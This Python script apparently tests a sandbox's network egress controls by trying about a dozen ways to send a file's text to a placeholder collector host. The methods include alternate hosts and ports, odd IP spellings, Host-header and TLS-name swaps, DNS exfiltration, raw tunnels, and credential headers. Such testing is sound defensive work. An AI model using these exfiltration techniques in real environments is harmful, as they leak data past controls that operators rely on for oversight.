"""Tries to get a text out of the cell, each time in another way, and says of each what it saw."""

import json
import os
import socket
import ssl
import subprocess

HOST, PORT = "COLLECTOR_HOST".split(":")
SERVICE, SERVICE_PORT = "GIT_HOST".split(":")
OTHER_PORT = "COLLECTOR_PORT"
REPOSITORY = "https://GIT_HOST/acme/slugs"
LOOT = open("slugs/slugs.py").read().split('"""')[1].replace(" ", "-")


def run(*argv):
    done = subprocess.run(argv, capture_output=True, text=True, timeout=100)
    return "%s %s" % (done.stdout, done.stderr)


def curl(*argv):
    return run("curl", "-sS", "--max-time", "60", *argv)


def tunnel(target):
    to = socket.create_connection(("127.0.0.1", 8183), timeout=60)
    to.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    return to, to.recv(4096).decode()


def raw(target):
    to, said = tunnel(target)
    to.sendall(b"SSH-2.0-" + LOOT.encode() + b"\r\n")
    return said + to.recv(4096).decode()


def spelled(host):
    to = socket.create_connection(("127.0.0.1", 8183), timeout=60)
    to.sendall(("GET http://%s:%s/?%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n" % (host, PORT, LOOT, host, PORT)).encode())
    return to.recv(4096).decode()


def named_in_tls(name):
    to, said = tunnel("GIT_HOST")
    trust = ssl.create_default_context()
    trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
    with trust.wrap_socket(to, server_hostname=name) as inside:
        inside.sendall(("GET /acme/slugs.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: GIT_HOST\r\n\r\n").encode())
        return said + inside.recv(4096).decode()


def resolved():
    said = []
    try:
        socket.getaddrinfo(LOOT[:40].strip(".") + ".collector.example", 443)
        said.append("resolved")
    except OSError as error:
        said.append(str(error))
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as to:
            to.sendto(LOOT.encode(), ("9.9.9.9", 53))
        said.append("sent")
    except OSError as error:
        said.append(str(error))
    return "; ".join(said)


ODD = ["0x7f000003", "2130706435", "127.3", "0177.0.0.3", "127.0.0.3.", "[::ffff:127.0.0.3]"]
WAYS = [
    ("another host", lambda: [curl("https://%s:%s/%s" % (HOST, PORT, LOOT))]),
    ("another port of a host that is allowed", lambda: [curl("https://%s/%s" % (OTHER_PORT, LOOT))]),
    ("an address in odd spellings", lambda: [spelled(host) for host in ODD]),
    ("a redirect that an allowed host sends", lambda: [run("git", "ls-remote", "https://GIT_HOST/acme/moved.git")]),
    ("a query", lambda: [curl("--get", "--data-urlencode", "q=" + LOOT, REPOSITORY)]),
    ("a body", lambda: [curl("--data", "@slugs/slugs.py", REPOSITORY)]),
    ("another host inside a tunnel", lambda: [curl("--header", "Host: %s" % HOST, REPOSITORY + "/info/refs?service=git-upload-pack")]),
    ("another name in TLS", lambda: [named_in_tls("collector.example")]),
    ("names for a resolver", lambda: [resolved()]),
    ("another protocol in a tunnel", lambda: [raw("%s:%s" % (HOST, PORT)), raw("GIT_HOST")]),
    ("a push to another branch", lambda: [run("git", "-C", "slugs", "push", "origin", "HEAD:refs/heads/main")]),
    ("a key of its own for the host", lambda: [run("git", "-c", "http.extraHeader=Authorization: Basic " + LOOT, "ls-remote", REPOSITORY + ".git")]),
]

os.environ["GIT_TERMINAL_PROMPT"] = "0"
for way, tried in WAYS:
    try:
        said = tried()
    except (OSError, subprocess.SubprocessError) as error:
        said = [repr(error)]
    print(json.dumps({"way": way, "said": [text.strip()[-400:] for text in said]}), flush=True)
